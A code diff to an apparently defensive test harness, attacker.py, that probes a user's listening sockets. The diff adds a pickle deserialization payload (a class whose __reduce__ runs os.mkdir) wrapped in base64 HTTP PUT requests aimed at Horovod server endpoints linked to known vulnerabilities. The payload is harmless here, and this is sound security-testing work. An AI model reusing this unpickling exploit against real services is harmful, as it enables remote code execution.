@@ -9,10 +9,12 @@ usage: attacker.py LOOT UID plant NAME...       puts links to LOOT.trap there
 Prints a line for each attempt: KIND, what, and what came of it, which is "GOT ..." where something
 was open. Everything that was read is in LOOT. Without PORT it talks to all ports on which UID listens."""
 
+import base64
 import contextlib
 import ctypes
 import errno
 import os
+import pickle
 import random
 import resource
 import select
@@ -308,6 +310,19 @@ def forge(connect, parent, rng):
     return ''
 
 
+class Evil:
+    """Executes code where it is unpickled: leaves LOOT.executed."""
+
+    def __reduce__(self):
+        return os.mkdir, (f'{loot.name}.executed',)
+
+
+def put(path):
+    """As the holes of Horovod's servers are attacked, see tests/python/horovod_cves_check.py."""
+    body = base64.b64encode(pickle.dumps(Evil()))
+    return f'PUT {path} HTTP/1.1\r\nHost: n1\r\nContent-Length: {len(body)}\r\n\r\n'.encode() + body
+
+
 def attack_socket(kind, what, connect, rng, recorded):
     """recorded: what earlier connections were told."""
     def tries(data):
@@ -321,7 +336,8 @@ def attack_socket(kind, what, connect, rng, recorded):
         return 'a connection'
 
     says = {'silence': b'', 'magic': UCX_MAGIC + rng.randbytes(300), 'noise': rng.randbytes(4096),
-            'long': b'\xff' * (1 << 18), **{f'hello to {rank}': hello(rank) for rank in range(RANKS)}}
+            'long': b'\xff' * (1 << 18), 'http': put('/worker_addresses/n1:0'), 'func': put('/runfunc/func'),
+            **{f'hello to {rank}': hello(rank) for rank in range(RANKS)}}
     for name, data in says.items():
         attempt(kind, f'{what} {name}', lambda data=data: tries(data))
     for rank in range(RANKS):
